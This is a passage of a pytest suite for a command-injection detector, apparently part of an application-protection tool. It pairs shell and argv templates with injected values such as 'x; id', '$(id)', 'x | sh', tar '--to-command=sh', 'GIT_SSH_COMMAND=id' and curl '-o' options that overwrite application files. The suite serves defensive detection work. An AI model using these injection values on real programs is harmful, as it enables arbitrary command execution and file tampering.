    (["node", "-p", "`total: {}`"], "42 items"),
    (["node", "/var/task/tool.js", "{}"], "x'); require('child_process')"),  # a script file's argument
    (["ruby", "-e", "puts '{}'"], "hello #{world}"),  # single quotes interpolate nothing
    (["php", "-r", "echo '{}';"], "price: $5"),
    (["node", "-e", "console.log({})"], "42"),
])
def test_more_programs_that_hand_on_a_script_benign(vector: list[str], payload: str) -> None:
    assert argv(fill(vector, payload), payload) is None


# ---------------------------------------------------------------- issue 11: builtins that run an operand, ssh

@pytest.mark.parametrize(("template", "payload"), [
    ("exec {} -x", "printenv"),
    ("exec -a name {}", "printenv"),
    ("command {} -x", "printenv"),
    ("builtin {} x", "eval"),
    (". {}", "/tmp/x.sh"),
    ("source {}", "/tmp/uploads/x.sh"),
])
def test_a_builtin_runs_the_program_an_input_names(template: str, payload: str) -> None:
    finding = shell(template, payload)
    assert finding is not None and finding.rule == "cmdi.program", finding


@pytest.mark.parametrize(("template", "payload"), [
    ("command -v {}", "git"),  # looks the name up, runs nothing
    ("exec git log --grep {}", "fix"),
    (". /var/task/env.sh {}", "arg"),
])
def test_a_builtin_with_an_input_elsewhere_is_benign(template: str, payload: str) -> None:
    assert shell(template, payload) is None


@pytest.mark.parametrize(("vector", "payload", "attack"), [
    (["ssh", "-p", "22", "host", "cat", "/srv/{}"], "x; id", True),  # the remote shell reads the command
    (["ssh", "host", "ls {}"], "$(id)", True),
    (["ssh", "-i", "/var/task/key", "host", "grep", "-r", "{}", "/srv"], "x | sh", True),
    (["ssh", "host", "ls", "{}"], "report.txt", False),
    (["ssh", "host", "cat", "/srv/'{}'"], "a b; c", False),
    (["ssh", "-o", "BatchMode=yes", "{}", "uptime"], "build-host-1", False),
])
def test_ssh_remote_command_is_read_as_a_shell_command(vector: list[str], payload: str, attack: bool) -> None:
    finding = argv(fill(vector, payload), payload)
    assert (finding is not None and finding.rule == "cmdi.shell-syntax") if attack else finding is None
    if attack:
        assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(Command(fill(vector, payload)))


def test_ssh_remote_files_are_not_judged_as_local_files() -> None:
    from app_protect_lambda.detectors.command_paths import file_arguments

    assert file_arguments(Command(["ssh", "host", "cat", "/etc/passwd"])) == []


# ---------------------------------------------------------------- issue 11: a variable expanded unquoted

@pytest.mark.parametrize(("template", "payload", "rule"), [
    ("Q='{}'; curl $Q http://x", "-o/var/task/app.py", "cmdi.option"),
    ("Q='{}'; curl -s $Q", "http://x -o /tmp/x", "cmdi.option"),
    ("Q='{}'; curl -s http://x/$Q", "a -o /tmp/x", "cmdi.option"),
    ("Q='{}'; $Q --version", "printenv", "cmdi.program"),
    ("export Q='{}'; tar cf /tmp/o.tar $Q", "--to-command=sh", "cmdi.option"),
    ('local Q="{}"; curl $Q x', "-o/tmp/x", "cmdi.option"),
    ("Q='{}'; rm -f /tmp/up/$Q", "a*", "cmdi.shell-syntax"),
    ("export {} ; git fetch", "GIT_SSH_COMMAND=id", "cmdi.environment"),
])
def test_an_input_expanded_unquoted_from_a_variable(template: str, payload: str, rule: str) -> None:
    finding = shell(template, payload)
    assert finding is not None and finding.rule == rule, finding


@pytest.mark.parametrize(("template", "payload"), [
    ("Q='{}'; echo $Q", "a b c"),  # echo: split words do nothing
    ('Q=\'{}\'; curl -s "http://x/$Q"', "a b -o x"),  # quoted: one word
    ('Q=\'{}\'; echo "$Q"', "a*"),
    ("Q='{}'; ls $Q", "my report.pdf"),
    ("Q='{}'; curl -s http://x/$R", "-o/tmp/x"),  # another variable
])
def test_an_input_expanded_from_a_variable_benign(template: str, payload: str) -> None:
    assert shell(template, payload) is None


def test_variable_expansion_rows_match_bash(tmp_path) -> None:
    out = tmp_path / "written"
    subprocess.run(["bash", "-c", f"Q='-o {out}'; curl -s $Q file:///dev/null"], capture_output=True, timeout=20)
    assert out.exists()  # the unquoted expansion made -o an option
    out.unlink()
    subprocess.run(["bash", "-c", f"Q='-o {out}'; curl -s \"$Q\" file:///dev/null"], capture_output=True, timeout=20)
    assert not out.exists()
